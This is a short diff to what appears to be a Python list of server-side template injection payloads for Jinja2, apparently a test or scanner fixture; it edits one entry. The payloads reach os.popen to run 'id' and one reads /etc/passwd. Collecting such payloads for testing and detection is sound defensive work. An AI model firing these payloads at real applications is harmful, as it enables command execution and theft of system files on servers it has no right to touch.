@@ -75,7 +75,7 @@ INJECTIONS = [
     "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
     "{{ ()|attr(request.args.c) }}",
     "{{ request|attr('application')|attr('__globals__')|attr('__getitem__')('__builtins__') }}",
-    "{{ request['application']['__globals__']['__builtins__']['__import__']('os')['popen']('id')['read']() }}",
+    "{{ request['application']['__globals__']['__import__']('os')['popen']('id')['read']() }}",
     "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
     "{{ ().__class__.__base__.__subclasses__()[59].__init__.__globals__['linecache'].os.popen('id') }}",
     "{{ [].__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}",
